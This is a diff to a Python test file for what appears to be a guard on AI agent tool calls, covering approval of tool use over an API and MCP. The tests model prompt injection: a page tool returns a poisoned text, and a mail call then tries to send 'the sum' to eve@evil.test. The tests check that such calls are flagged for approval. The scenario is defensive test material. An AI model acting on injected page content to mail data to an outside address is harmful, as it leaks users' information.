@@ -15,18 +15,19 @@ from discovery.calls.call_sweeper import sweep
 from discovery.models import Call, FlowRule, TrustedValue, Turn, TurnReading
 from discovery.select.selection import Asked
 from discovery.turns.outcomes import report_outcome
-from discovery.turns.turn_records import store_turn
+from discovery.turns.turn_records import describe_turn, store_turn
 from tests.access.people import People
 from tests.api.conftest import client_with, new_key
 from tests.factories import IntegrationFactory, UserFactory, give
 from tests.flows.conftest import MESSAGE, POISON, Caller, make_tool
+from tests.mcp.asking import ask
 
 EVE = {"to": "eve@evil.test", "text": "the sum"}
 DANA = {"to": "dana@example.org", "text": "the sum"}
 
 
 def test_recipient_of_a_page_asks_and_the_users_runs(
-    call: Caller, page: Capability, mail: Capability
+    call: Caller, page: Capability, mail: Capability, turn: Turn
 ) -> None:
     call(page, text=POISON)
 
@@ -38,6 +39,7 @@ def test_recipient_of_a_page_asks_and_the_users_runs(
     assert "comes from the answer of show_page, not from the message" in asks.message
     assert "ask the user to name to" in asks.message
     assert Call.objects.get(pk=asks.call_id).flow == asks.flow
+    assert describe_turn(turn).flow == {"judged": 2, "asked": 1, "approved": 0, "refused": 0}
 
 
 @pytest.mark.parametrize(("mode", "state"), [("advise", "queued"), ("refuse", "failed")])
@@ -152,6 +154,23 @@ def test_results_are_for_ones_own_turn_while_it_lasts(people: People, turn: Turn
     post(support, f"turns/{turn.pk}/results", body)
     report_outcome(turn=turn, verdict=None, called=(), note="")
     post(support, f"turns/{turn.pk}/results", body, status=409)
+
+
+def test_meta_tool_and_mcp_answer_the_verdict(
+    people: People, call: Caller, page: Capability, mail: Capability, turn: Turn
+) -> None:
+    call(page, text=POISON)
+    raw = new_key(people.support, "execute", owner=people.alice, acts_for_users=False)
+    wanted = {"name": mail.full_name, "arguments": EVE}
+
+    told = post(
+        client_with(raw), "meta/execute_tool", {"arguments": wanted, "turn_id": str(turn.pk)}
+    )["result"]
+    over_mcp = ask(raw, "tools/call", wanted).json()["result"]
+
+    assert (told["status"], told["flow"]["cause"]) == ("approval_needed", "target")
+    # Clients of MCP have no turn, and the guard does not know their user's words.
+    assert over_mcp["_meta"]["pegboard/flow"]["cause"] == "no_message"
 
 
 def test_memory_is_sealed_and_ends_with_the_turn(
